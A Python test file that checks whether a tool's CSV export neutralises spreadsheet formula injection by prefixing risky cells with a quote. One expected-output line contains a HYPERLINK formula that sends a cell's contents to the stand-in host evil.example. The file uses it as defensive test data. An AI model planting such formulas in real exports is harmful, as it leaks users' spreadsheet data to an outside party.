"""No CSV hexhop writes runs as a formula in a spreadsheet: a text cell that
starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a
single quote before it (OWASP's advice); numbers the program counted stay
numbers. One function makes every cell (``records.text.csv_cell``)."""

from __future__ import annotations

import csv
import io
import sys
from pathlib import Path

import pytest
from archive_helpers import run

from hexhop.records.text import csv_cell, csv_line

sys.path.insert(0, str(Path(__file__).parent))
from safety_cases import FORMULAS, formula_names  # noqa: E402

HYPERLINK, CMD, SUM, MINUS = FORMULAS


@pytest.mark.parametrize(
    "value, cell",
    [
        (HYPERLINK, "'" + HYPERLINK),
        (CMD, "'" + CMD),
        (SUM, "'@SUM(1+1)"),
        (MINUS, "'-2+3"),
        ("\tTab", "'\\x09Tab"),  # a tab is also written as its escape
        ("\rCR", "'\\x0dCR"),
        ("a=b", "a=b"),  # only the first character counts
        ("1-0", "1-0"),
        (-12, "-12"),  # a number the program wrote stays a number
        (-1.5, "-1.5"),
        (None, ""),
        (True, "true"),
        ("-12", "'-12"),  # text from a record is text, even when it looks like a number
    ],
)
def test_a_cell(value: object, cell: str) -> None:
    assert csv_cell(value) == cell


def test_a_line_quotes_as_csv_does() -> None:
    assert (
        csv_line([1, HYPERLINK, "x"])
        == '1,"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",x'
    )


@pytest.fixture(scope="module")
def record(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("formulas") / "a.hxl"
    path.write_bytes(formula_names())
    return path


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_find_csv(record: Path) -> None:
    done = run("find", record, "--scan", "--format", "csv")
    assert done.exit_code == 0, done.output
    rows = _rows(done.stdout)
    assert [row[4:6] + row[8:9] for row in rows] == [
        ["first", "second", "event"],
        ["'" + HYPERLINK, "'" + CMD, "'" + HYPERLINK],
        ["'" + SUM, "'" + MINUS, "'" + HYPERLINK],
    ]
    assert [row[2] for row in rows[1:]] == ["1", "10"]  # numbers (the lines) stay numbers


@pytest.mark.parametrize("sort", [[], ["--sort", "player"]])
def test_every_find_csv_cell_is_safe(record: Path, sort: list[str]) -> None:
    done = run("find", record, "--scan", "--format", "csv", *sort)
    cells = [cell for row in _rows(done.stdout) for cell in row]
    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []


def test_crosstable_csv(record: Path) -> None:
    done = run("crosstable", record, "--scan", "--format", "csv", "-q")
    assert done.exit_code == 0, done.output
    assert _rows(done.stdout) == [
        ["#", "player", "1", "2", "3", "4", "points", "SB", "won", "lost", "open"],
        ["1", "'" + HYPERLINK, ".", ".", "1-0", ".", "1", "0", "1", "0", "0"],
        ["2", "'" + SUM, ".", ".", ".", "1-0", "1", "0", "1", "0", "0"],
        ["3", "'" + CMD, "0-1", ".", ".", ".", "0", "0", "0", "1", "0"],
        ["4", "'" + MINUS, ".", "0-1", ".", ".", "0", "0", "0", "1", "0"],
    ]


def test_crosstable_csv_listing(tmp_path: Path) -> None:
    """The listing of many players writes its cells by the same rule."""
    from hexhop.archive.standings import MAX_TABLE_PLAYERS

    games = "".join(
        f'[Game "Hexalit"]\n[North "-P{i}"]\n[South "=P{i}"]\n[Result "1-0"]\n\n1-0\n\n'
        for i in range(MAX_TABLE_PLAYERS)
    )
    (tmp_path / "a.hxl").write_text(games, "utf-8")
    done = run("crosstable", tmp_path / "a.hxl", "--scan", "--format", "csv", "-q")
    rows = _rows(done.stdout)
    assert rows[0][-1] == "games" and len(rows) == 2 * MAX_TABLE_PLAYERS + 1
    assert {row[1][:2] for row in rows[1:]} == {"'-", "'="}
